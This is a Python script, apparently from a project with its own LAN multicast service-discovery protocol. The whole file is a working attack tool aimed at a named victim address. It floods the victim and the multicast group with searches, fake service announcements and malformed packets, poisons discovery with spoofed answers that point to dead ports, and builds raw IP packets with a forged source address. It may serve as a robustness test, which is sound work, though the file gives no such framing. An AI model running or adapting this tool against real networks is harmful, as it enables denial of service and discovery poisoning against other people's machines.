"""Floods of LAN packets.  A program, for a stranger's machine.

    python lan_attacks.py KINDS VICTIM LABEL RATE SECONDS ADDRESS...

KINDS (as in "searches+answers") are what is sent, RATE times a second in all, to VICTIM and to the group in turns:
searches (for everything, and for the service's own key hash), answers (of ever new services), garbage, spoofed (answers
for LABEL, or several with commas between them, with ports where nobody listens), or forged (the same to the group
alone, from VICTIM's own address).
The ADDRESSes are this machine's; packets come from them in turns.
Packets: docs/PROTOCOL.md, section 6.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

GROUP, PORT = "239.192.152.143", 6771
_COOKIE = "6f1c2f5e-8d1b-4a53-9a35-1f0e4c8f7b21"


def search(name: str) -> bytes:
    return f"HARDLINE-SEARCH * HTTP/1.1\r\nInfohash: {name}\r\ncookie: {_COOKIE}\r\n\r\n\r\n".encode()


def answer(port: int, name: str, title: str = "x") -> bytes:
    return (
        f"HARDLINE-SERVICE * HTTP/1.1\r\nPort: {port}\r\nInfohash: {name}\r\ncookie: {_COOKIE}\r\n"
        f"title: {title}\r\nv: 2\r\n\r\n\r\n"
    ).encode()


def packets(kind: str, label: str) -> Iterator[bytes]:
    for number in itertools.count():
        match kind:
            case "searches":
                yield search(("", label, os.urandom(20).hex())[number % 3])
            case "answers":
                yield answer(number % 65_535 + 1, os.urandom(20).hex(), "t" * 500)
            case "spoofed" | "forged":
                labels = label.split(",")
                yield answer(number % 6000 + 1, labels[number % len(labels)])
            case "garbage":
                yield _garbage(number)


def _garbage(number: int) -> bytes:
    match number % 4:
        case 0:
            return random.randbytes(1400)
        case 1:
            return b"HARDLINE-SERVICE * HTTP/1.1\r\n" + b"a: b\r\n" * 200
        case 2:
            return b"HARDLINE-SEARCH " + b":\n" * 600
        case _:
            return b"HARDLINE-SERVICE * HTTP/1.1\r\nPort: " + b"9" * 1200 + b"\r\n\r\n"


def sender(kinds: list[str], addresses: list[str], victim: str) -> Callable[[bytes, int], None]:
    """Sends a packet to the victim and to the group in turns."""
    if kinds == ["forged"]:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        return lambda data, number: _forge(raw, victim, data)
    mouths = []
    for address in addresses:
        mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        mouth.bind((address, 0))
        mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addresses[0]))
        mouths.append(mouth)

    def send(data: bytes, number: int) -> None:
        with contextlib.suppress(OSError):  # ICMP: port unreachable
            mouths[number // 2 % len(mouths)].sendto(data, (GROUP if number % 2 else victim, PORT))

    return send


def _forge(raw: socket.socket, source: str, data: bytes) -> None:
    """From `source` to the group, with an IP header of our own."""
    udp = struct.pack(">HHHH", PORT, PORT, 8 + len(data), 0) + data
    header = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 1, 17, 0, socket.inet_aton(source), socket.inet_aton(GROUP)
    )
    raw.sendto(header + udp, (GROUP, 0))


def main() -> None:
    names, victim, label, rate, seconds, *addresses = sys.argv[1:]
    kinds = names.split("+")
    send = sender(kinds, addresses, victim)
    supplies = [packets(kind, label) for kind in kinds]
    ready = [next(supply) for _ in range(4096 // len(kinds)) for supply in supplies]
    print("under way", flush=True)
    began, sent = time.monotonic(), 0
    while (passed := time.monotonic() - began) < float(seconds):
        due = int(passed * float(rate))
        for number in range(sent, due):
            send(ready[number % len(ready)], number)
        sent = max(sent, due)
        time.sleep(0.001)
    print(json.dumps({"packets": sent, "per_second": round(sent / float(seconds))}))


main()
